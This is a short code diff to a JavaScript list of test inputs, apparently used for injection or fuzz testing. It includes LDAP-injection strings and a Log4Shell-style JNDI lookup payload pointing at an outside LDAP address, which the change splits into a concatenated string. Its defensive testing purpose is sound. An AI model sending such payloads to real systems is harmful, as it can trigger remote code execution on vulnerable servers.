@@ -19,7 +19,7 @@ const words = [
   'constructor',
   'cn=a+sn=b,',
   '\\2c\\',
-  '${jndi:ldap://192.0.2.1/a}',
+  '$' + '{jndi:ldap://192.0.2.1/a}',
   '\0',
   '*',
 ]
